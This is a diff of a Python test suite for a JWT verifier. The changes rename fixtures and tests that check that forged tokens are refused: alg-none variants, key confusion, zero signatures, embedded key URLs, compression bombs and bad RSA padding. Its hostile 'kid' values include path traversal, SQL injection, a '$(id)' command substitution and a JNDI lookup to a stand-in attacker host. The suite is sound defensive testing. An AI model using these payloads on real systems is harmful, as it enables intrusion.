@@ -1,6 +1,6 @@
-"""Attacks on algorithms, headers, keys and signatures: each ends in its own refusal, and nobody is asked for it.
+"""Attacks on algorithms, headers, keys and signatures: each is refused with its own error and without a request.
 
-`test_incidents.py` has those on a token's text and claims; `test_verifier.py` what is held value by value.
+`test_incidents.py` has the attacks on a token's encoding and claims; `test_verifier.py` tests single values.
 """
 
 import base64
@@ -23,57 +23,57 @@ from .forging import (
     HEADER,
     NOW,
     POOL,
-    access,
-    code,
+    access_claims,
+    error_code,
     forged_padding,
-    joined,
-    make,
+    join_parts,
+    make_verifier,
     needs_fetch,
     public_key_as_secret,
     refusal,
-    right_padding,
-    signed,
+    sign_with,
+    valid_padding,
 )
 
 pytestmark = pytest.mark.usefixtures("decoder")
 
-GOOD = sign(access())
+GOOD = sign(access_claims())
 HEADER_PART, CLAIMS, SIGNATURE = GOOD.split(".")
 MESSAGE = f"{HEADER_PART}.{CLAIMS}"
 MODULUS = private_key("one").public_key().public_numbers().n
-OUR_KEYS = "/eu-west-1_AbCdEfGhI/.well-known/jwks.json"
+JWKS_PATH = "/eu-west-1_AbCdEfGhI/.well-known/jwks.json"
 
 
 @pytest.fixture
-def ours() -> Iterator[ScriptedServer]:
-    """Where the pool publishes its keys."""
+def pool_server() -> Iterator[ScriptedServer]:
+    """Yield the server of the pool's JWKS."""
     with ScriptedServer(json_answer(jwks("one"))) as server:
         yield server
 
 
 @pytest.fixture
-def theirs() -> Iterator[ScriptedServer]:
-    """Where the attacker publishes theirs."""
+def attacker_server() -> Iterator[ScriptedServer]:
+    """Yield the server of the attacker's JWKS."""
     with ScriptedServer(json_answer(jwks("two"))) as server:
         yield server
 
 
 @pytest.fixture
-def remote(ours: ScriptedServer) -> UserPool:
-    """A pool whose keys have to be fetched."""
-    return UserPool(POOL.user_pool_id, client_ids=("1webclient",), issuer=f"{ours.url}/{POOL.user_pool_id}")
+def remote(pool_server: ScriptedServer) -> UserPool:
+    """Return a pool without pinned keys: they have to be fetched."""
+    return UserPool(POOL.user_pool_id, client_ids=("1webclient",), issuer=f"{pool_server.url}/{POOL.user_pool_id}")
 
 
 @pytest.fixture
 def cold(remote: UserPool) -> TokenVerifier:
-    """A verifier that has no key yet."""
+    """Return a verifier without cached keys."""
     return TokenVerifier(remote, now=lambda: NOW)
 
 
 # Algorithms: RFC 8725 3.1, 3.2, 3.5
 
 
-NONE: tuple[Any, ...] = (
+NONE_ALGS: tuple[Any, ...] = (
     "none",
     "None",
     "NONE",
@@ -93,55 +93,66 @@ NONE: tuple[Any, ...] = (
 
 
 @pytest.mark.parametrize("is_signed", [False, True], ids=["unsigned", "signed"])
-@pytest.mark.parametrize("alg", NONE, ids=[f"CVE-2015-9235 alg {alg!r}" for alg in NONE])
-def test_no_spelling_of_no_algorithm_is_believed(alg: Any, is_signed: bool) -> None:
-    message, _, signature = sign(access(), header={"kid": "one", "alg": alg}).rpartition(".")
-    assert code(f"{message}.{signature if is_signed else ''}") == "invalid_signature"
+@pytest.mark.parametrize("alg", NONE_ALGS, ids=[f"CVE-2015-9235 alg {alg!r}" for alg in NONE_ALGS])
+def test_alg_none_is_refused_in_every_spelling(alg: Any, is_signed: bool) -> None:
+    message, _, signature = sign(access_claims(), header={"kid": "one", "alg": alg}).rpartition(".")
+    assert error_code(f"{message}.{signature if is_signed else ''}") == "invalid_signature"
 
 
-NEARLY = ("rs256", "Rs256", " RS256", "RS256 ", "RS256\0", "RS256\n", "RS256,none", "RSA256", "\uff32S256", "RS2560")
+SIMILAR_ALGS = (
+    "rs256",
+    "Rs256",
+    " RS256",
+    "RS256 ",
+    "RS256\0",
+    "RS256\n",
+    "RS256,none",
+    "RSA256",
+    "\uff32S256",
+    "RS2560",
+)
 
 
-@pytest.mark.parametrize("alg", [*NEARLY, ["RS256"], {"RS256": 1}, 256], ids=repr)
-def test_an_algorithm_that_is_nearly_ours_is_not_ours(alg: Any) -> None:
-    assert code(sign(access(), header={"kid": "one", "alg": alg})) == "invalid_signature"
+@pytest.mark.parametrize("alg", [*SIMILAR_ALGS, ["RS256"], {"RS256": 1}, 256], ids=repr)
+def test_alg_similar_to_rs256_is_refused(alg: Any) -> None:
+    assert error_code(sign(access_claims(), header={"kid": "one", "alg": alg})) == "invalid_signature"
 
 
-@pytest.mark.parametrize("said", ["HS256", "RS256"])
+@pytest.mark.parametrize("header_alg", ["HS256", "RS256"])
 @pytest.mark.parametrize(
     "secret", [pytest.param(value, id=f"CVE-2016-10555 {name}") for name, value in public_key_as_secret().items()]
 )
-def test_the_public_key_is_no_secret(secret: bytes, said: str) -> None:
-    assert code(signed("HS256", said=said, secret=secret)) == "invalid_signature"
+def test_public_key_as_hmac_secret_is_refused(secret: bytes, header_alg: str) -> None:
+    assert error_code(sign_with("HS256", header_alg=header_alg, secret=secret)) == "invalid_signature"
 
 
-@pytest.mark.parametrize("said", [None, "RS256"], ids=["said so", "said RS256"])
+@pytest.mark.parametrize("header_alg", [None, "RS256"], ids=["true alg", "alg RS256"])
 @pytest.mark.parametrize("algorithm", ["RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "HS384", "HS512"])
-def test_a_right_signature_by_another_algorithm_is_none(algorithm: str, said: str | None) -> None:
-    assert code(signed(algorithm, said=said)) == "invalid_signature"
+def test_valid_signature_by_another_algorithm_is_refused(algorithm: str, header_alg: str | None) -> None:
+    assert error_code(sign_with(algorithm, header_alg=header_alg)) == "invalid_signature"
 
 
-def test_the_forger_s_own_right_signature_holds() -> None:
-    assert make().verify(signed("RS256"))
-    assert make().verify(right_padding())
+def test_valid_tokens_of_the_forging_functions_are_accepted() -> None:
+    assert make_verifier().verify(sign_with("RS256"))
+    assert make_verifier().verify(valid_padding())
 
 
 @pytest.mark.parametrize("alg", ["ES256", "ES384", "ES256K", "EdDSA", "RS256"])
 @pytest.mark.parametrize(
     "signature", [bytes(64), bytes(96), bytes.fromhex("3006020100020100")], ids=["64", "96", "DER"]
 )
-def test_cve_2022_21449_a_signature_of_zeros_is_none(alg: str, signature: bytes) -> None:
-    assert code(joined({"kid": "one", "alg": alg}, access(), signature)) == "invalid_signature"
+def test_cve_2022_21449_signature_of_zeros_is_refused(alg: str, signature: bytes) -> None:
+    assert error_code(join_parts({"kid": "one", "alg": alg}, access_claims(), signature)) == "invalid_signature"
 
 
-def test_keys_of_other_kinds_in_the_set_verify_nothing() -> None:
-    verifier = make()
+def test_ec_and_oct_keys_in_the_jwks_are_not_used() -> None:
+    verifier = make_verifier()
     elliptic = {"kty": "EC", "crv": "P-256", "x": b64(bytes(32)), "y": b64(bytes(32))}
     secret = {"kty": "oct", "k": b64(b"a secret")}
     others = [{**key, "kid": kind, "use": "sig", "alg": alg} for kind, alg, key in _kinds(elliptic, secret)]
     verifier.load_jwks(POOL, {"keys": [*others, jwk()]})
     for kind in ("elliptic", "secret"):
-        assert code(sign(access(), header={"kid": kind, "alg": "RS256"}), verifier) == "unknown_key"
+        assert error_code(sign(access_claims(), header={"kid": kind, "alg": "RS256"}), verifier) == "unknown_key"
     assert verifier.verify(GOOD)
 
 
@@ -149,107 +160,115 @@ def _kinds(*keys: Any) -> Iterator[tuple[str, str, Any]]:
     return zip(("elliptic", "secret"), ("ES256", "RS256"), keys, strict=True)
 
 
-# What a header asks for: RFC 8725 3.10
+# Header parameters: RFC 8725 3.10
 
 
 @pytest.mark.parametrize("crit", [["x"], ["kid"], ["exp", "exp"], None, "", "exp", {}, {"exp": 1}, False, 0], ids=repr)
-def test_cve_2026_32597_a_critical_extension_is_refused_whatever_it_is(crit: Any) -> None:
-    assert code(sign(access(), header={**HEADER, "crit": crit, "x": 1})) == "invalid_signature"
+def test_cve_2026_32597_crit_header_is_refused(crit: Any) -> None:
+    assert error_code(sign(access_claims(), header={**HEADER, "crit": crit, "x": 1})) == "invalid_signature"
 
 
-def test_an_unencoded_payload_is_malformed() -> None:
+def test_unencoded_payload_is_malformed() -> None:
     header = segment({**HEADER, "b64": False})
-    payload = json.dumps(access(scope=...))  # RFC 7797 5.2: it may stand there as it is, where it has no dot
-    assert code(f"{header}.{payload.replace('.', '')}.{SIGNATURE}") == "malformed_token"
+    payload = json.dumps(access_claims(scope=...))  # RFC 7797 5.2: a payload without dots may be unencoded
+    assert error_code(f"{header}.{payload.replace('.', '')}.{SIGNATURE}") == "malformed_token"
 
 
 @pytest.mark.parametrize(("kid", "expected"), [("one", "invalid_signature"), ("two", "unknown_key")])
-def test_cve_2018_0114_no_key_of_the_token_s_own_is_used(kid: str, expected: str) -> None:
+def test_cve_2018_0114_key_in_the_header_is_not_used(kid: str, expected: str) -> None:
     header = {"kid": kid, "alg": "RS256", "jwk": jwk("two", kid=kid), "x5c": [segment(jwk("two"))]}
-    assert code(sign(access(), header=header, key="two")) == expected
+    assert error_code(sign(access_claims(), header=header, key="two")) == expected
 
 
 @pytest.mark.defends("RP-25")
 @pytest.mark.parametrize("kid", ["one", "two"])
 @pytest.mark.parametrize("name", ["jku", "x5u", "jwks_uri", "iss", "url", "kid"])
-def test_no_address_of_the_token_s_own_is_asked(
-    name: str, kid: str, remote: UserPool, cold: TokenVerifier, ours: ScriptedServer, theirs: ScriptedServer
+def test_url_in_the_header_is_not_requested(
+    name: str,
+    kid: str,
+    remote: UserPool,
+    cold: TokenVerifier,
+    pool_server: ScriptedServer,
+    attacker_server: ScriptedServer,
 ) -> None:
-    address = f"{theirs.url}/{POOL.user_pool_id}/.well-known/jwks.json"
-    header = {"kid": kid, "alg": "RS256", name: address}
-    error = refusal(sign(access(iss=remote.issuers[0]), header=header, key="two"), cold)
+    url = f"{attacker_server.url}/{POOL.user_pool_id}/.well-known/jwks.json"
+    header = {"kid": kid, "alg": "RS256", name: url}
+    error = refusal(sign(access_claims(iss=remote.issuers[0]), header=header, key="two"), cold)
     assert type(error) is SignatureError
-    assert [request.path for request in ours.requests] == [OUR_KEYS]
-    assert theirs.count == 0
+    assert [request.path for request in pool_server.requests] == [JWKS_PATH]
+    assert attacker_server.count == 0
 
 
 @pytest.mark.defends("RP-25")
-def test_an_issuer_of_the_attacker_s_own_is_not_asked_for_its_keys(
-    cold: TokenVerifier, ours: ScriptedServer, theirs: ScriptedServer
+def test_keys_of_a_foreign_issuer_are_not_fetched(
+    cold: TokenVerifier, pool_server: ScriptedServer, attacker_server: ScriptedServer
 ) -> None:
-    raw = sign(access(iss=f"{theirs.url}/{POOL.user_pool_id}"), key="two")
+    raw = sign(access_claims(iss=f"{attacker_server.url}/{POOL.user_pool_id}"), key="two")
     assert not needs_fetch(cold, raw)
-    assert code(raw, cold) == "wrong_issuer"
-    assert (ours.count, theirs.count) == (0, 0)
+    assert error_code(raw, cold) == "wrong_issuer"
+    assert (pool_server.count, attacker_server.count) == (0, 0)
 
 
 KIDS = {
     "a path": "../../../../../../dev/null",
     "a file": "/etc/passwd",
-    "an address": "https://attacker.invalid/jwks.json",
-    "a path into the address": "../../other/.well-known/jwks.json?",
+    "a URL": "https://attacker.invalid/jwks.json",
+    "a path within the URL": "../../other/.well-known/jwks.json?",
     "SQL": "x' UNION SELECT 'secret';--",
     "a command": "$(id)|`id`",
     "a format": "{0.__class__}%s%n${jndi:ldap://attacker.invalid}",
-    "a known one and NUL": "one\0",
-    "a known one and a newline": "one\n",
-    "a known one and a space": "one ",
-    "a known one in capitals": "ONE",
-    "a known one in full width": "\uff4fne",
-    "a line for the log": "x\r\n2026-01-01 INFO signed in as root",
+    "a valid kid and NUL": "one\0",
+    "a valid kid and a newline": "one\n",
+    "a valid kid and a space": "one ",
+    "a valid kid in capitals": "ONE",
+    "a valid kid in full width": "\uff4fne",
+    "a log line": "x\r\n2026-01-01 INFO signed in as root",
     "a dunder": "__class__",
-    "a member of the set": "keys",
-    "as long as may be": "k" * 256,
-    "longer": "k" * 257,
-    "endless": "k" * 9_000,
+    "a member of the JWKS": "keys",
+    "maximum length": "k" * 256,
+    "too long": "k" * 257,
+    "9000 characters": "k" * 9_000,
     "empty": "",
 }
 
 
 @pytest.mark.parametrize("kid", [pytest.param(kid, id=name) for name, kid in KIDS.items()])
-def test_a_kid_is_a_name_and_nothing_else(kid: str, caplog: pytest.LogCaptureFixture) -> None:
-    error = refusal(sign(access(), header={"kid": kid, "alg": "RS256"}))
+def test_hostile_kid_is_refused_and_not_logged(kid: str, caplog: pytest.LogCaptureFixture) -> None:
+    error = refusal(sign(access_claims(), header={"kid": kid, "alg": "RS256"}))
     assert type(error) is SignatureError
     assert not kid or kid not in f"{error} {caplog.text}"
 
 
 @pytest.mark.defends("RP-25")
 @pytest.mark.parametrize("kid", [pytest.param(kid, id=name) for name, kid in KIDS.items()])
-def test_a_kid_leads_to_no_other_address(kid: str, remote: UserPool, cold: TokenVerifier, ours: ScriptedServer) -> None:
+def test_hostile_kid_changes_no_request_path(
+    kid: str, remote: UserPool, cold: TokenVerifier, pool_server: ScriptedServer
+) -> None:
     assert (
-        type(refusal(sign(access(iss=remote.issuers[0]), header={"kid": kid, "alg": "RS256"}), cold)) is SignatureError
+        type(refusal(sign(access_claims(iss=remote.issuers[0]), header={"kid": kid, "alg": "RS256"}), cold))
+        is SignatureError
     )
-    assert {request.path for request in ours.requests} <= {OUR_KEYS}
+    assert {request.path for request in pool_server.requests} <= {JWKS_PATH}
 
 
 @pytest.mark.parametrize(
     "value", [None, True, 1, 1.5, [], ["one"], [["one"]], {}, {"one": "one"}, {"a": [{}]}], ids=repr
 )
 @pytest.mark.parametrize("name", ["alg", "kid"])
-def test_a_header_is_of_strings_where_strings_are_due(name: str, value: Any) -> None:
-    assert code(sign(access(), header={**HEADER, name: value})) == "invalid_signature"
+def test_alg_and_kid_must_be_strings(name: str, value: Any) -> None:
+    assert error_code(sign(access_claims(), header={**HEADER, name: value})) == "invalid_signature"
 
 
 # Compression and encryption: RFC 8725 3.6
 
 
-def test_a_compressed_payload_is_never_inflated(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_compressed_payload_is_never_decompressed(monkeypatch: pytest.MonkeyPatch) -> None:
     bomb = zlib.compress(bytes(10_000_000))
     inflated: list[Any] = []
     for name in ("decompress", "decompressobj"):
         monkeypatch.setattr(zlib, name, lambda *args, **kwargs: inflated.append(args))
     for zipped in (bomb, bomb[2:-4]):
-        assert code(sign(zipped, header={**HEADER, "zip": "DEF"})) == "malformed_token"
+        assert error_code(sign(zipped, header={**HEADER, "zip": "DEF"})) == "malformed_token"
     assert inflated == []
 
 
@@ -257,20 +276,20 @@ def test_a_compressed_payload_is_never_inflated(monkeypatch: pytest.MonkeyPatch)
     "header",
     [
         pytest.param({"alg": "dir", "enc": "A256GCM"}, id="a direct key"),
-        pytest.param({"alg": "RSA-OAEP", "enc": "A256GCM"}, id="as Cognito's refresh tokens are"),
+        pytest.param({"alg": "RSA-OAEP", "enc": "A256GCM"}, id="like a refresh token"),
         pytest.param({"alg": "dir", "enc": "A256GCM", "zip": "DEF"}, id="CVE-2024-33664 compressed"),
         pytest.param({"alg": "PBES2-HS256+A128KW", "enc": "A256GCM", "p2c": 2**31 - 1, "p2s": "AA"}, id="p2c bomb"),
     ],
 )
-def test_an_encrypted_token_is_named_and_never_opened(
-    header: dict[str, Any], ours: ScriptedServer, cold: TokenVerifier, monkeypatch: pytest.MonkeyPatch
+def test_encrypted_token_is_never_decrypted(
+    header: dict[str, Any], pool_server: ScriptedServer, cold: TokenVerifier, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     derived: list[Any] = []
     monkeypatch.setattr(hashlib, "pbkdf2_hmac", lambda *args, **kwargs: derived.append(args))
     raw = ".".join([segment(header), *(b64(bytes(size)) for size in (256, 12, 1_000, 16))])
-    assert code(raw, cold) == "refresh_token"
-    assert code(joined({**header, "kid": "one"}, access(), bytes(256)), cold) == "invalid_signature"
-    assert (derived, ours.count) == ([], 0)
+    assert error_code(raw, cold) == "refresh_token"
+    assert error_code(join_parts({**header, "kid": "one"}, access_claims(), bytes(256)), cold) == "invalid_signature"
+    assert (derived, pool_server.count) == ([], 0)
 
 
 # Signatures: RFC 8725 3.3
@@ -292,50 +311,50 @@ SIGNATURES = {
     "two to the 2047": number(2**2_047),
     "the modulus": number(MODULUS),
     "the modulus less one": number(MODULUS - 1),
-    "the greatest number": number(2**2_048 - 1),
+    "the maximum": number(2**2_048 - 1),
     "the negative": number(MODULUS - NUMBER),
-    "the modulus more": number(NUMBER + MODULUS, 257),
+    "plus the modulus": number(NUMBER + MODULUS, 257),
     "a zero before it": b64(b"\0" + VALUE),
     "a zero after it": b64(VALUE + b"\0"),
-    "a byte less": b64(VALUE[:-1]),
+    "the last byte missing": b64(VALUE[:-1]),
     "the first byte missing": b64(VALUE[1:]),
     "half": b64(VALUE[:128]),
     "twice": b64(VALUE * 2),
-    "backwards": b64(VALUE[::-1]),
-    "a bit turned": b64(VALUE[:-1] + bytes([VALUE[-1] ^ 1])),
-    "in hexadecimals": b64(VALUE.hex().encode()),
-    "in base64 again": b64(SIGNATURE.encode()),
+    "reversed": b64(VALUE[::-1]),
+    "one bit flipped": b64(VALUE[:-1] + bytes([VALUE[-1] ^ 1])),
+    "hexadecimal": b64(VALUE.hex().encode()),
+    "base64 twice": b64(SIGNATURE.encode()),
     "wrapped in ASN.1": b64(b"\x04\x82\x01\x00" + VALUE),
-    "as long as fits": b64(bytes(10_000)),
+    "10000 bytes": b64(bytes(10_000)),
 }
 
 
-@pytest.mark.parametrize("known", [False, True], ids=["new", "after the good one"])
+@pytest.mark.parametrize("is_cached", [False, True], ids=["uncached", "cached"])
 @pytest.mark.parametrize("signature", [pytest.param(value, id=name) for name, value in SIGNATURES.items()])
-def test_any_other_signature_is_refused(signature: str, known: bool) -> None:
-    verifier = make()
-    if known:
+def test_other_signature_is_refused(signature: str, is_cached: bool) -> None:
+    verifier = make_verifier()
+    if is_cached:
         assert verifier.verify(GOOD)
-    assert code(f"{MESSAGE}.{signature}", verifier) == "invalid_signature"
+    assert error_code(f"{MESSAGE}.{signature}", verifier) == "invalid_signature"
 
 
-def test_a_signature_and_the_modulus_are_not_that_signature() -> None:
-    for raw in (sign(access(jti=str(position))) for position in itertools.count()):
+def test_signature_plus_modulus_is_refused() -> None:
+    for raw in (sign(access_claims(jti=str(position))) for position in itertools.count()):
         message, _, signature = raw.rpartition(".")
         greater = int.from_bytes(base64.urlsafe_b64decode(f"{signature}==")) + MODULUS
         if greater < 2**2_048:
             break
-    assert code(f"{message}.{number(greater)}") == "invalid_signature"
+    assert error_code(f"{message}.{number(greater)}") == "invalid_signature"
 
 
-def test_a_signature_without_its_leading_zero_is_refused() -> None:
-    for raw in (sign(access(jti=str(position))) for position in itertools.count()):
+def test_signature_without_its_leading_zero_is_refused() -> None:
+    for raw in (sign(access_claims(jti=str(position))) for position in itertools.count()):
         message, _, signature = raw.rpartition(".")
         value = base64.urlsafe_b64decode(f"{signature}==")
         if value[0] == 0:
             break
-    assert code(f"{message}.{b64(value[1:])}") == "invalid_signature"
-    assert make().verify(raw)
+    assert error_code(f"{message}.{b64(value[1:])}") == "invalid_signature"
+    assert make_verifier().verify(raw)
 
 
 @pytest.mark.parametrize(
@@ -346,28 +365,28 @@ def test_a_signature_without_its_leading_zero_is_refused() -> None:
         pytest.param(DIGEST_INFO, b"\0", id="one byte after the digest"),
         pytest.param(b"", b"", id="no DigestInfo"),
         pytest.param(bytes.fromhex("302f300b06096086480165030402010420"), b"", id="a DigestInfo without parameters"),
-        pytest.param(bytes.fromhex("3021300906052b0e03021a05000414"), b"", id="SHA-1 said"),
-        pytest.param(bytes.fromhex("3051300d060960864801650304020305000440"), b"", id="SHA-512 said"),
-        pytest.param(b"\0" + DIGEST_INFO, b"", id="a zero more"),
+        pytest.param(bytes.fromhex("3021300906052b0e03021a05000414"), b"", id="SHA-1"),
+        pytest.param(bytes.fromhex("3051300d060960864801650304020305000440"), b"", id="SHA-512"),
+        pytest.param(b"\0" + DIGEST_INFO, b"", id="an extra zero"),
     ],
 )
-def test_what_a_signature_opens_to_is_compared_whole(before: bytes, after: bytes) -> None:
-    assert code(forged_padding(before, after)) == "invalid_signature"
+def test_invalid_signature_padding_is_refused(before: bytes, after: bytes) -> None:
+    assert error_code(forged_padding(before, after)) == "invalid_signature"
 
 
 @pytest.mark.parametrize(
     "raw",
     [
         pytest.param(f"{CLAIMS}.{HEADER_PART}.{SIGNATURE}", id="parts exchanged"),
-        pytest.param(f"{HEADER_PART}.{segment(access(scope='admin'))}.{SIGNATURE}", id="other claims"),
+        pytest.param(f"{HEADER_PART}.{segment(access_claims(scope='admin'))}.{SIGNATURE}", id="other claims"),
         pytest.param(
-            f"{HEADER_PART}.{b64(json.dumps(access(), indent=1).encode())}.{SIGNATURE}", id="written otherwise"
+            f"{HEADER_PART}.{b64(json.dumps(access_claims(), indent=1).encode())}.{SIGNATURE}", id="other whitespace"
         ),
         pytest.param(f"{segment({'alg': 'RS256', 'kid': 'one'})}.{CLAIMS}.{SIGNATURE}", id="the header's order"),
-        pytest.param(f"{segment({**HEADER, 'typ': 'JWT'})}.{CLAIMS}.{SIGNATURE}", id="a header more"),
+        pytest.param(f"{segment({**HEADER, 'typ': 'JWT'})}.{CLAIMS}.{SIGNATURE}", id="an extra header parameter"),
     ],
 )
-def test_a_signature_is_of_the_very_bytes(raw: str) -> None:
-    verifier = make()
+def test_signature_covers_the_exact_bytes(raw: str) -> None:
+    verifier = make_verifier()
     assert verifier.verify(GOOD)
-    assert code(raw, verifier) in ("invalid_signature", "wrong_issuer")
+    assert error_code(raw, verifier) in ("invalid_signature", "wrong_issuer")
